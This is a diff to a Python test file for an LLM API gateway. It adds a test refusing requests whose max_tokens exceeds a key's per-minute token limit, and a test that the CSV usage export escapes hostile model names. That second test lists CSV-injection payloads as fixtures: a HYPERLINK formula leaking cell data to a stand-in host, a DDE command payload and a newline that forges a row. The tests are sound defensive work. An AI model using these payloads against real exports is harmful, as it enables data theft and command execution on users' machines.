@@ -5,7 +5,9 @@ the limiter on its own state (no NATS: one replica)."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
+import io
 import json
 import os
 
@@ -22,11 +24,11 @@ from llmendpoints_gateway.keys import (
 from llmendpoints_gateway.limiter import Limiter
 from llmendpoints_gateway.metering import (
     BodyUsage,
-    StreamUsage,
     Usage,
     UsageRecord,
     metered_request,
     summarize,
+    usage_csv,
     usage_of_body,
     usage_of_job_output,
     usage_of_tail,
@@ -46,6 +48,7 @@ from llmendpoints_gateway.quotas import (
     renew,
     window_of,
 )
+from llmendpoints_gateway.stream_meter import StreamUsage
 
 T0 = 1_800_000_000.0  # a minute boundary (divisible by 60)
 LIMITS = Limits(requests_per_minute=2, tokens_per_minute=100, max_concurrent=1)
@@ -422,6 +425,34 @@ def test_a_request_reserves_n_times_max_tokens_and_its_prompt():
     assert metered.prompt_estimate == 2 + 4
 
 
+def test_max_tokens_above_the_keys_minute_is_refused_at_once_naming_the_limit():
+    """A request asking for more completion tokens than the key's whole tokensPerMinute can
+    never run under it: 429 naming the limit and the field, nothing counted, no retry. Before:
+    admitted, reserving the whole minute (``reserved_tokens`` caps at the limit)."""
+    limits = Limits(tokens_per_minute=1000)
+    metered = metered_request("/v1/chat/completions", {"max_tokens": 400, "n": 3}, 10, 16)
+    assert (metered.asked_tokens, metered.asked_field) == (1200, "max_tokens")
+    unset = metered_request("/v1/chat/completions", {}, 10, 4096)  # the gateway's default
+    assert (unset.asked_tokens, unset.asked_field) == (0, None)
+
+    async def scenario():
+        limiter = Limiter("g", clock=lambda: T0 + 1)
+        key = Key("team", limits=limits)
+        with pytest.raises(RateLimitError) as refused:
+            await limiter.admit(key, tokens=1210, asked=1200, asked_field="max_tokens")
+        error = refused.value
+        assert error.status_code == 429 and error.param == "max_tokens"
+        assert "tokensPerMinute = 1000" in error.message and "'team'" in error.message
+        assert error.headers["x-should-retry"] == "false"
+        ticket = await limiter.admit(key, tokens=1000, asked=1000, asked_field="max_tokens")
+        assert ticket.reserved == 1000  # the whole minute: nothing of the refusal counted
+        # without max_tokens nothing is refused up front (the reservation is capped instead)
+        other = Key("other", limits=limits)
+        assert await limiter.admit(other, tokens=5000) is not None
+
+    asyncio.run(scenario())
+
+
 def test_a_stream_cut_before_its_usage_chunk_is_billed_an_estimate():
     role = {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]}
     stream = _sse(role, TOKEN, TOKEN, TOKEN)  # cut: no usage chunk, no [DONE]
@@ -470,6 +501,46 @@ def test_export_rows_per_key_endpoint_model_with_duplicates_once():
     ]  # fmt: skip
     record = rec("x", "a", "demo", "demo", 1, 2)
     assert UsageRecord.decode(record.encode()) == record
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula_or_a_line_of_its_own():
+    """The model is what a client sent (any string through /v2/{endpoint}/openai/...). Before:
+    written verbatim, so ``=HYPERLINK(...)`` ran in the spreadsheet that opened the export, and
+    a newline started a forged row."""
+    models = [
+        '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "demo\nmallory,default/x,free,0,0,0",
+        "plain-model",
+    ]
+    rows = [
+        {"key": "k", "endpoint": "default/e", "model": m, "requests": 1, "prompt_tokens": 2,
+         "completion_tokens": 3}
+        for m in models
+    ]  # fmt: skip
+    text = usage_csv(rows)
+    lines = text.splitlines()
+    assert lines[0] == "key,endpoint,model,requests,prompt_tokens,completion_tokens"
+    assert len(lines) == 1 + len(models)  # one line a record, whatever the model holds
+    parsed = list(csv.DictReader(io.StringIO(text)))
+    cells = [row["model"] for row in parsed]
+    assert cells == [
+        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "\\t=1+1",
+        "\\r=1+1",
+        "demo\\nmallory,default/x,free,0,0,0",
+        "plain-model",
+    ]
+    assert all(row["requests"] == "1" and row["key"] == "k" for row in parsed)
+    # what the existing exports looked like is unchanged for ordinary names
+    assert lines[-1] == "k,default/e,plain-model,1,2,3"
 
 
 # ------------------------------------------------------------------ the limiter, one replica
